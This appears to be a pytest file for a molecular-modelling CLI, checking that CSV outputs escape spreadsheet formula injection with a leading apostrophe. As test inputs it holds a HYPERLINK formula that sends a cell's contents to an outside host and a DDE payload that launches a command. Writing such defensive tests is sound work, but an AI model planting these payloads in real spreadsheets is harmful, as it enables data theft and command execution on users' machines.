import csv
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from molvae.cli import main
from molvae.formats.spreadsheets import harmless, without_formulas

EVIL = '=HYPERLINK("http://x.org/?"&A1)'


@pytest.mark.parametrize("cell", [EVIL, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


def test_numbers_and_other_text_stay_as_they_are() -> None:
    frame = pd.DataFrame({"smiles": ["CCO", "[O-]C"], "x": [-1.5, 2.0], "=n": ["@a", None], "ok": [True, False]})
    safe = without_formulas(frame)
    assert list(safe.columns) == ["smiles", "x", "'=n", "ok"]
    assert safe["smiles"].tolist() == ["CCO", "[O-]C"]
    assert safe["x"].tolist() == [-1.5, 2.0]
    assert safe["'=n"][0] == "'@a"


def test_encode_reconstruct_and_prepare_write_no_formula_that_came_with_the_input(run: Path, tmp_path: Path) -> None:
    table = tmp_path / "in.csv"
    with table.open("w", newline="") as file:
        csv.writer(file).writerows([["smiles", "id"], ["CCO", EVIL], ["=cmd|' /C calc'!A0", "@b"], ["C1CC", "-c"]])
    calls = [
        ["encode", str(table), "-m", str(run), "--name-column", "id", "-o", str(tmp_path / "e.csv"), "--jobs", "1"],
        ["reconstruct", str(table), "-m", str(run), "-o", str(tmp_path / "r.csv")],
        ["data", "prepare", str(table), "--name-column", "id", "-o", str(tmp_path / "p"), "--jobs", "1"],
    ]
    for call in calls:
        result = CliRunner().invoke(main, [*call, "--escape-formulas"])
        assert result.exit_code == 0, result.output
    for written in ("e.csv", "r.csv", "p/rejected.csv"):
        cells = [cell for row in csv.reader((tmp_path / written).open()) for cell in row]
        assert any(cell.startswith("'=") for cell in cells)
        text = [cell for cell in cells if not cell.lstrip("-").replace(".", "").replace("e-", "").isdigit()]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in text)
